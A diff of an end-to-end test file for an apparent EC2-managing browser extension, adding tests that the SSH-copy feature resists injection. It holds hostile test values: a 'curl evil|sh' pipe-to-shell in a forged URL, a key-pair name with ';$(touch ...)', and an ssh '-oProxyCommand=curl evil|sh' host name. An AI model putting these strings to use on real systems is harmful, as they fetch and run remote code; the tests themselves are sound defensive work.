@@ -1,5 +1,6 @@
 // The EC2 scenario both browsers must pass: find an image, launch it through the dialog, watch it
 // come up without a manual refresh, read its console, tag it, stop, start, reboot, terminate.
+import { execFileSync } from 'node:child_process';
 import { expect } from 'vitest';
 import { reloadPage } from '../support/browser-adapter';
 import type { FrontDoor } from '../support/front-door';
@@ -235,6 +236,8 @@ export async function quickLaunchScenario(
   await press(page, 'Launch…');
   await fill(page, 'Image ID', MOTO_IMAGE);
   await fill(page, 'Preset name', 'web preset');
+  // No passphrase in this browser: the dialog says the user data would be kept plain.
+  await waitForText(page, 'user data is kept unencrypted on this computer');
   await press(page, 'Save as preset');
   await waitForText(page, 'Preset “web preset” saved');
   await press(page, 'Cancel');
@@ -254,9 +257,14 @@ export async function quickLaunchScenario(
   await waitForText(again, `“web preset”: ${id} running at `, 40_000);
   await again.close();
 
-  let ssh = '';
+  // The outcome the background kept, and the notification naming it (its id, never its command).
+  const outcome = await run<{ id: string; ssh: string }>(
+    page,
+    `const api = globalThis.browser ?? globalThis.chrome;
+     return api.storage.local.get('launch.outcomes').then((r) => r['launch.outcomes'].value[0]);`,
+  );
+  expect(outcome.ssh).toMatch(/^ssh ec2-user@\S+/);
   if (notifications === 'observable') {
-    // The notification's id carries the SSH command its click copies.
     const notification = await waitFor(
       page,
       new Function(
@@ -266,26 +274,26 @@ export async function quickLaunchScenario(
       ) as () => Promise<string | undefined>,
       'the launch notification',
     );
-    ssh = decodeURIComponent(notification.split(':')[1] ?? '');
-  } else {
-    ssh = await run<string>(
-      page,
-      `const api = globalThis.browser ?? globalThis.chrome;
-       return api.storage.local.get('launch.outcomes').then((r) => r['launch.outcomes'].value[0].ssh);`,
-    );
+    expect(notification).toBe(`cirrus-launch:${outcome.id}`);
   }
-  expect(ssh).toMatch(/^ssh ec2-user@\S+/);
-  const host = ssh.split('@')[1] ?? '';
 
-  const copied = await openPage(`panel.html?copy=${encodeURIComponent(ssh)}`);
+  // Its click opens the panel on that launch: the command is shown, and copied only on a click.
+  const shown = await openPage(`panel.html?launch=${encodeURIComponent(outcome.id)}`);
+  await waitForText(shown, outcome.ssh);
+  await waitForText(shown, 'SSH command for “web preset”');
+  await shown.click('.launch-ssh button');
   await waitFor(
-    copied,
-    new Function(
-      `return document.body.innerText.includes(${JSON.stringify(host)});`,
-    ) as () => boolean,
-    'the SSH command on the panel',
+    shown,
+    () => /Copied|copy it by hand/.test(document.querySelector('.launch-ssh')?.textContent ?? ''),
+    'copied, or the clipboard refused',
   );
-  await copied.close();
+  await shown.close();
+
+  // A URL can no longer put text on the clipboard or the page, and an unknown launch says so.
+  const forged = await openPage('panel.html?copy=curl%20evil%7Csh&launch=no-such-launch');
+  await waitForText(forged, 'not among the last quick launches');
+  expect(await bodyText(forged)).not.toContain('curl evil');
+  await forged.close();
 }
 
 /**
@@ -444,4 +452,134 @@ export function cliSeesInstance(cli: (args: string[]) => unknown, id: string) {
       { Key: 'note', Value: XSS_TAG },
     ]),
   );
+}
+
+/** A key pair name EC2 allows (ASCII) that a shell would run if the command were not quoted. */
+export const HOSTILE_KEY = `k;$(touch /tmp/cirrus-e2e-pwned)'q`;
+
+/** The words a real POSIX shell makes of a command line; it runs nothing but printf. */
+export function shellWords(line: string): string[] {
+  // `set --` turns the line's words into "$@" (a `;` or `$(…)` left unquoted would run here).
+  const out = execFileSync('/bin/sh', ['-c', `set -- ${line}\nprintf '%s\\0' "$@"`], {
+    encoding: 'utf8',
+  });
+  return out.split('\0').slice(0, -1);
+}
+
+/**
+ * An instance whose key pair name holds `;`, `$()` and a quote: the panel's Copy SSH command
+ * gives a line a POSIX shell splits into exactly ssh, -i, NAME.pem, USER@HOST.
+ */
+export async function hostileKeyName(page: TypingPage, instanceId: string, host: string) {
+  await page.click('#tab-instances');
+  await press(page, 'Refresh');
+  await clickRow(page, instanceId);
+  await press(page, 'Copy SSH command');
+  // Copied, or shown to copy by hand where a headless browser keeps the clipboard from the page.
+  const note = await waitFor(
+    page,
+    () =>
+      [...document.querySelectorAll('.notice[role="status"]')]
+        .map((e) => e.textContent ?? '')
+        .find((text) => /^(Copied|SSH command): ssh /.test(text)),
+    'the SSH command on the page',
+  );
+  const line = note.replace(/^(Copied|SSH command): /, '');
+  expect(shellWords(line)).toEqual(['ssh', '-i', `${HOSTILE_KEY}.pem`, `ec2-user@${host}`]);
+}
+
+/** Ten years, as a server with a broken (or hostile) clock would have it. */
+export const TEN_YEARS_MS = 10 * 365 * 24 * 60 * 60_000;
+
+function storedOffsets(page: TypingPage) {
+  return run<{ current: string; offsets: Record<string, number> }>(
+    page,
+    `const api = globalThis.browser ?? globalThis.chrome;
+     return api.storage.local.get(['profiles', 'clock.offsets']).then((r) => ({
+       current: r.profiles.value.currentId,
+       offsets: r['clock.offsets']?.value ?? {},
+     }));`,
+  );
+}
+
+/**
+ * A server 10 years ahead: the list load is refused with the clock message, and the profile's
+ * clock offset stays what it was. The cloud's clock is set right again afterwards.
+ */
+export async function serverYearsAhead(page: TypingPage, frontDoor: FrontDoor) {
+  await page.click('#tab-instances');
+  await waitFor(page, () => document.querySelectorAll('tr[data-key]').length > 0, 'instances');
+  const before = await storedOffsets(page);
+  expect(before.current).toBeTruthy();
+  frontDoor.setClockOffset(TEN_YEARS_MS);
+  try {
+    await press(page, 'Refresh');
+    await waitForText(page, 'ClockOutOfRange');
+    await waitForText(page, 'minutes (the server is ahead of this computer)');
+    const after = await storedOffsets(page);
+    expect(after.offsets[after.current]).toBe(before.offsets[before.current]);
+    expect(Math.abs(after.offsets[after.current] ?? 0)).toBeLessThanOrEqual(60 * 60_000);
+  } finally {
+    frontDoor.setClockOffset(0);
+  }
+  await press(page, 'Refresh');
+  await waitFor(
+    page,
+    () => !document.body.innerText.includes('ClockOutOfRange'),
+    'the list again once the clock is right',
+  );
+}
+
+/** A "DNS name" a hostile endpoint could send: ssh would read it as an option. */
+export const HOSTILE_HOST = '-oProxyCommand=curl evil|sh';
+
+/**
+ * An ec2Rewrite (after `inner`) that gives chosen instances the DNS name in `hosts`: what a
+ * malicious endpoint or a proxy in the way could answer.
+ */
+export function rewriteHosts(
+  inner: (action: string, body: string) => string,
+  hosts: Map<string, string>,
+): (action: string, body: string) => string {
+  return (action, body) => {
+    let out = inner(action, body);
+    if (action !== 'DescribeInstances') return out;
+    for (const [id, host] of hosts) {
+      const dns = new RegExp(
+        `(<instanceId>${id}</instanceId>[\\s\\S]*?<dnsName>)[^<]*(</dnsName>)`,
+      );
+      out = out.replace(dns, `$1${host}$2`);
+    }
+    return out;
+  };
+}
+
+/**
+ * The cloud now gives the instance a host name that is not one: Copy SSH in the panel and in
+ * the popup says so, naming it as text, and copies nothing.
+ */
+export async function hostileHost(
+  page: TypingPage,
+  openPage: (path: string) => Promise<TypingPage & { close(): Promise<unknown> }>,
+  instanceId: string,
+) {
+  const refusal = `the host name the cloud gave, “${HOSTILE_HOST}”, is not a valid host name`;
+  await page.click('#tab-instances');
+  await press(page, 'Refresh');
+  // Still selected: its details show the new name once the list has it.
+  await waitForText(page, HOSTILE_HOST);
+  await press(page, 'Copy SSH command');
+  await waitForText(page, refusal);
+  expect(await bodyText(page)).not.toMatch(/(Copied|SSH command): ssh /);
+
+  const popup = await openPage('popup.html');
+  const row = `[data-instance="${instanceId}"]`;
+  await waitFor(
+    popup,
+    new Function(`return !!document.querySelector(${JSON.stringify(row)});`) as () => boolean,
+    'the instance in the popup',
+  );
+  await popup.click(`${row} button`);
+  await waitForText(popup, refusal);
+  await popup.close();
 }
